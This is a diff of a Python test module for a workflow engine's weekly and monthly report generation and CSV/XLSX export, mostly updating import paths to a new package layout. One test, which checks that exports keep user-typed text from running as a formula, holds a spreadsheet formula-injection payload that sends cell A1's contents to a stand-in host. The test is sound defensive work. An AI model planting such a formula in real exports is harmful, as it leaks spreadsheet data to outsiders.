@@ -1,4 +1,4 @@
-"""engine.weekly_report, engine.monthly_report, engine.report_store, engine.report_export: the weekly
+"""engine.supervision.reports.weekly, engine.supervision.reports.monthly, engine.supervision.reports.store, engine.supervision.reports.export: the weekly
 report (M2) of THE WEEK and the monthly report (M3) of THE MONTH across the year end, against the
 figures computed by hand in tests/report_fixtures.py; one report per period, even when two makers
 race; the notable cases; CSV and XLSX read back."""
@@ -17,20 +17,19 @@ from sqlalchemy import func, select
 from sqlalchemy.orm import Session, sessionmaker
 
 from engine.clock import SettableClock
-from engine.models import ProcessDefinition, Report
-from engine.report_export import report_tables, to_csv, to_xlsx
-from engine.report_periods import month_period_of, week_of
-from engine.report_store import generate_due_reports, generate_report, set_notable_cases
-from engine.runtime import Engine
-
-from ..report_fixtures import SHANGHAI, World, build_week, build_year_end_month, make_world
+from engine.db.models import ProcessDefinition, Report
+from engine.runtime import Runtime
+from engine.supervision.reports.export import report_tables, to_csv, to_xlsx
+from engine.supervision.reports.periods import month_period_of, week_of
+from engine.supervision.reports.store import generate_due_reports, generate_report, set_notable_cases
+from tests.report_fixtures import SHANGHAI, World, build_week, build_year_end_month, make_world
 
 WEEK = week_of(date(2026, 11, 23))
 MONTH = month_period_of(date(2027, 1, 1))
 
 
 @pytest.fixture
-def world(sessions: sessionmaker[Session], runtime: Engine, clock: SettableClock, deployed: ProcessDefinition,
+def world(sessions: sessionmaker[Session], runtime: Runtime, clock: SettableClock, deployed: ProcessDefinition,
           deploy_process: Callable[[str], ProcessDefinition]) -> World:
     return make_world(sessions, runtime, clock, deploy_process)
 
@@ -197,7 +196,7 @@ def test_csv_and_xlsx_carry_the_same_figures(world: World) -> None:
 def test_typed_text_stays_text_in_the_exports_m3() -> None:
     """Text a customer or a member of staff typed (a description, a note) can start like a formula; the
     CSV and the XLSX keep it as text, so opening the report never runs it."""
-    from engine.report_export import Table
+    from engine.supervision.reports.export import Table
 
     typed = '=HYPERLINK("http://example.invalid/?d="&A1,"Details")'
     table = Table("notable", "Notable cases", ["case", "summary", "note", "count"],
